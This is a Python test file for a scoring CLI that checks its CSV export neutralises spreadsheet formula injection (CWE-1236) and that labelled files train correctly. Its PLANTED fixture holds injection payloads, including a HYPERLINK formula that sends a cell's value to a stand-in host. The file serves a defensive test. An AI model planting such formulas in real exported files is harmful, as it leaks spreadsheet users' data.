"""`jalur model score --out` writes a CSV for spreadsheets: an account a payer chose, such as
`=HYPERLINK(…)` or `@SUM(…)`, was written raw, a formula that ran in Excel (CWE-1236). Text
cells are now marked as text with `'`, scores stay numbers, and `model train --labels` reads
the accounts of a labelled score file back as paid."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from risk_builders import economy, load
from typer.testing import CliRunner

from jalur.cli import app
from jalur.config import Settings
from jalur.store import Store

PLANTED = ('=HYPERLINK("http://x/?"&A1,"open")', "@SUM(1+1)", "-SMURF", "+SMURF", "SMURF4")


def jalur(home: Path, *args: str) -> str:
    result = CliRunner().invoke(app, ["--home", str(home), *args])
    assert result.exit_code == 0, result.output
    return result.stdout


def _scores(tmp_path: Path) -> tuple[Path, list[dict[str, str]]]:
    home = tmp_path / "home"
    with Store.open(Settings.resolve(home)) as store:
        load(store, economy(planted=PLANTED))
    out = tmp_path / "scores.csv"
    jalur(home, "model", "score", "--scorecard", "--out", str(out))
    with out.open(encoding="utf-8", newline="") as handle:
        return home, list(csv.DictReader(handle))


def test_hostile_accounts_are_inert_in_the_score_csv(tmp_path: Path) -> None:
    _, rows = _scores(tmp_path)
    accounts = {row["account"] for row in rows}
    assert {"'" + p for p in PLANTED[:4]} | {"SMURF4"} <= accounts
    assert not [a for a in accounts if a[0] in "=+-@\t\r"]
    assert all(0 <= float(row["score"]) <= 1 for row in rows)  # numbers stay numbers


def test_training_on_a_labelled_score_file_reads_the_accounts_as_paid(tmp_path: Path) -> None:
    home, rows = _scores(tmp_path)
    assert "'" + PLANTED[0] in {row["account"] for row in rows}  # as the analyst sees it
    labels = tmp_path / "labels.csv"
    with labels.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["account", "score", "label"])
        for row in rows:  # the analyst's column added to the file as written
            planted = row["account"].lstrip("'") in PLANTED
            writer.writerow([row["account"], row["score"], 1 if planted else 0])
    card = json.loads(jalur(home, "model", "train", "--labels", str(labels), "--json"))
    assert (card["data"]["positives"], card["data"]["rejected"]) == (len(PLANTED), 0)
